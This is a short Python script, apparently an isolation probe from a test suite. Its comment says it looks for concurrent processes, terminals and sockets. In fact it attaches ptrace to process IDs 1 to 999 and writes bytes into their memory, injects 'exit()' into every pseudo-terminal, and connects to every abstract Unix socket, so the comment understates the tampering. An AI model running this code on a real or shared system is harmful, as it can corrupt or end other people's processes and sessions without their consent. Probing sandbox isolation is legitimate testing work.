# class: touches
# what: looks for jobs that run at the same time: processes, terminals, abstract sockets
import ctypes, glob, os, signal, socket
libc = ctypes.CDLL(None)
for process in range(1, 1000):
    if process in (os.getpid(), os.getppid()):
        continue
    libc.ptrace(16, process, 0, 0)
    try:
        with open(f"/proc/{process}/mem", "r+b") as memory:
            memory.write(b"gancourse-attack")
    except (OSError, ValueError):
        pass
for name in glob.glob("/dev/pts/[0-9]*"):
    try:
        os.write(os.open(name, os.O_RDWR | os.O_NOCTTY), b"exit()\n")
    except OSError:
        pass
for line in open("/proc/net/unix").read().split():
    if line.startswith("@"):
        try:
            socket.socket(socket.AF_UNIX).connect("\0" + line[1:])
        except OSError:
            pass
